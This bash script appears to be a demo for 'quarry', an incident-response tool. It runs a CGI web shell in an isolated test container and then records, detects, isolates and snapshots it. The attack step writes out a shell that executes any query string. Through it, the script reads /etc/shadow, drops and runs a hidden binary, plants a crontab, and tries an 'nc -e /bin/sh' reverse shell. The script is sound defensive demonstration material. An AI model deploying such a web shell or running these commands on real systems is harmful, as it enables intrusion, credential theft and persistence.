#!/usr/bin/env bash
# A web shell in a throwaway container, from the first request to a verified evidence bundle.
#
#   sudo examples/webshell/run.sh            # uses `quarry` on PATH, else target/release/quarry
#   sudo QUARRY=/path/to/quarry WORK=/tmp/ws examples/webshell/run.sh
#
# It records with `quarry record`, starts a busybox web server with a CGI "shell" in a runc
# container on a network namespace of its own (a veth pair on a free 198.18.N.0/29 test
# subnet: no traffic leaves the machine), attacks it over HTTP the way a web shell is used
# (read /etc/shadow, drop and run a hidden binary, plant a crontab, try a reverse shell to
# the host's end of the veth), then answers as a responder would: ps, hunt, isolate (the
# shell stops answering), snapshot (CRIU, the container keeps running), the HTML timeline,
# an export bundle and its verification. Everything it creates is removed at the end, also
# when a step fails; the evidence stays in WORK (a new temporary directory unless given).
#
# Needs root, runc, CRIU, busybox-static, ip, curl and python3 (scripts/setup installs them).
set -euo pipefail

here="$(cd "$(dirname "$0")" && pwd)"
QUARRY="${QUARRY:-$(command -v quarry || echo "$here/../../target/release/quarry")}"
WORK="${WORK:-$(mktemp -d /tmp/quarry-webshell.XXXXXX)}"
mkdir -p "$WORK"
chmod 0700 "$WORK"
name="quarry-webshell-$$"
netns="qws$$"
host_if="qwh$$"
peer_if="qwc$$"
store="$WORK/store"
port=8080

step() { printf '\n== %s\n' "$*"; }
fail() { echo "webshell example: $*" >&2; exit 1; }

[ "$(id -u)" = 0 ] || fail "run it as root (recording and containers need it)"
[ -x "$QUARRY" ] || fail "no quarry binary at $QUARRY (build it: cargo build --release)"
for tool in runc criu ip curl python3; do
  command -v "$tool" >/dev/null || fail "$tool is missing (scripts/setup installs it)"
done
[ -x /bin/busybox ] || fail "/bin/busybox is missing (busybox-static; scripts/setup installs it)"

recorder=""
isolated=""
cleanup() {
  set +e
  if [ -n "$isolated" ]; then
    "$QUARRY" release "$name" --store "$store" --reason "webshell example cleanup" >/dev/null 2>&1
  fi
  runc kill "$name" KILL >/dev/null 2>&1
  runc delete -f "$name" >/dev/null 2>&1
  ip link del "$host_if" >/dev/null 2>&1
  ip netns del "$netns" >/dev/null 2>&1
  # runc removes the container's cgroups, not the parent directories it created.
  for hierarchy in /sys/fs/cgroup/*/; do
    rmdir "$hierarchy/quarry-example-$$/$name" "$hierarchy/quarry-example-$$" >/dev/null 2>&1
  done
  if [ -n "$recorder" ] && kill -0 "$recorder" 2>/dev/null; then
    kill -INT "$recorder"
    wait "$recorder"
  fi
}
trap cleanup EXIT

# A free test subnet: no host address in it yet (taken under the lock the tests use too).
exec 9>/run/lock/quarry-testnet.lock
flock 9
used="$(ip -o -4 addr show)"
subnet=""
for n in $(seq 200 249) $(seq 0 199); do
  if ! grep -q "inet 198\.18\.$n\." <<<"$used"; then subnet="198.18.$n"; break; fi
done
[ -n "$subnet" ] || fail "no free 198.18.N.0/29 test subnet"
host_ip="$subnet.1"
inside_ip="$subnet.2"
ip netns add "$netns"
ip link add "$host_if" type veth peer name "$peer_if"
ip link set "$peer_if" netns "$netns"
ip addr add "$host_ip/29" dev "$host_if"
ip link set "$host_if" up
ip -n "$netns" addr add "$inside_ip/29" dev "$peer_if"
ip -n "$netns" link set "$peer_if" up
ip -n "$netns" link set lo up
ip -n "$netns" route add default via "$host_ip"
flock -u 9

step "1. recording into $store"
"$QUARRY" record --store "$store" --seal-interval 1s \
  --alert-output "file:$WORK/alerts.json" 2>"$WORK/recorder.log" &
recorder=$!
for _ in $(seq 600); do
  grep -q '^quarry: recording ' "$WORK/recorder.log" && break
  kill -0 "$recorder" 2>/dev/null || { cat "$WORK/recorder.log" >&2; fail "the recorder stopped"; }
  sleep 0.1
done
grep -q '^quarry: recording ' "$WORK/recorder.log" || fail "the recorder did not start in 60 s"
echo "recorder running (pid $recorder)"

step "2. a web server with a CGI shell in container $name"
bundle="$WORK/bundle"
rootfs="$bundle/rootfs"
mkdir -p "$rootfs"/{bin,proc,dev,sys,tmp,etc/crontabs,www/cgi-bin}
cp /bin/busybox "$rootfs/bin/busybox"
for applet in sh httpd cat echo id ls chmod nc sleep rm wc; do
  ln -s busybox "$rootfs/bin/$applet"
done
echo 'root:x:0:0:root:/root:/bin/sh' >"$rootfs/etc/passwd"
echo 'root:$6$examplesalt$notarealhash:19000:0:99999:7:::' >"$rootfs/etc/shadow"
chmod 0600 "$rootfs/etc/shadow"
: >"$rootfs/etc/crontabs/root"
# The "shell": whatever the query string says, run by sh (what a dropped web shell does).
cat >"$rootfs/www/cgi-bin/shell" <<'EOF'
#!/bin/sh
echo "Content-Type: text/plain"
echo
cmd=$(httpd -d "${QUERY_STRING#c=}")
sh -c "$cmd" 2>&1
EOF
chmod 0755 "$rootfs/www/cgi-bin/shell"
(cd "$bundle" && runc spec)
python3 - "$bundle/config.json" "$netns" "$name" "$port" <<'EOF'
import json, sys
path, netns, name, port = sys.argv[1:]
c = json.load(open(path))
c["process"]["terminal"] = False
c["process"]["args"] = ["httpd", "-f", "-p", port, "-h", "/www"]
c["root"]["readonly"] = False
c["hostname"] = "web"
c["linux"]["cgroupsPath"] = f"/quarry-example-{name.rsplit('-', 1)[1]}/{name}"
for ns in c["linux"]["namespaces"]:
    if ns["type"] == "network":
        ns["path"] = f"/var/run/netns/{netns}"
json.dump(c, open(path, "w"), indent=1)
EOF
runc run -d --bundle "$bundle" "$name" </dev/null >/dev/null 2>"$WORK/runc.log" \
  || { cat "$WORK/runc.log" >&2; fail "runc run failed"; }
echo "web server up at http://$inside_ip:$port/"

# One request to the shell; prints its answer. Fails when the shell does not answer.
shell() {
  curl -sS --fail -m 5 -G --data-urlencode "c=$1" "http://$inside_ip:$port/cgi-bin/shell"
}
for _ in $(seq 50); do shell true >/dev/null 2>&1 && break; sleep 0.2; done

step "3. the attack, through the web shell"
echo "\$ id";               shell 'id'
echo "\$ cat /etc/shadow";  shell 'cat /etc/shadow' | sed 's/:.*/:.../'
echo "\$ drop and run /tmp/.x"
shell 'echo "#!/bin/sh" > /tmp/.x; echo "echo implant running" >> /tmp/.x; chmod +x /tmp/.x; /tmp/.x'
echo "\$ plant a crontab"
shell 'echo "* * * * * /tmp/.x" >> /etc/crontabs/root; cat /etc/crontabs/root'
echo "\$ reverse shell to $host_ip:4444 (nothing listens there)"
shell "nc $host_ip 4444 -e /bin/sh; echo nc exited \$?" || true
# Let the recorder seal what it saw (its seal interval is 1 s here).
sleep 3

step "4. quarry ps"
"$QUARRY" ps --store "$store" | grep -E "^CONTAINER ID|$name" || true

step "5. quarry hunt --container $name"
set +e
"$QUARRY" hunt --store "$store" --container "$name" --format json >"$WORK/findings.json"
hunt_exit=$?
set -e
echo "hunt exit code $hunt_exit (4: findings)"
python3 - "$WORK/findings.json" <<'EOF'
import json, sys
findings = json.load(open(sys.argv[1]))
for rule in sorted({(f["rule"], f["severity"], f["title"]) for f in findings}):
    print("finding %s %s: %s" % rule)
EOF
echo "live alerts raised by the recorder: $(wc -l <"$WORK/alerts.json" 2>/dev/null || echo 0)"

step "6. quarry isolate $name"
"$QUARRY" isolate "$name" --store "$store" --reason "web shell found by the example"
isolated=yes
if shell 'echo still answering' >/dev/null 2>&1; then
  echo "the web shell still answers: the quarantine did not hold"
  exit 1
fi
echo "the web shell no longer answers; the container keeps running: $(runc state "$name" | python3 -c 'import json,sys; print(json.load(sys.stdin)["status"])')"

step "7. quarry snapshot $name"
"$QUARRY" snapshot "$name" --case "$WORK/case" --store "$store" --reason "web shell evidence" \
  --format json >"$WORK/snapshot.json"
python3 - "$WORK/snapshot.json" <<'EOF'
import json, sys
r = json.load(open(sys.argv[1]))
print("snapshot case written; processes %d; left running %s" % (r["processes"], r["left_running"]))
EOF

step "8. quarry timeline $name --format html"
sleep 2
"$QUARRY" timeline "$name" --store "$store" --format html -o "$WORK/timeline.html"
echo "timeline written to $WORK/timeline.html ($(grep -c 'class="step' "$WORK/timeline.html") steps)"

step "9. quarry export $name and quarry verify"
"$QUARRY" export "$name" --store "$store" --case "$WORK/case" -o "$WORK/evidence.tar.zst"
"$QUARRY" verify "$WORK/evidence.tar.zst"

step "10. done"
echo "evidence in $WORK (store, case, timeline.html, evidence.tar.zst)"
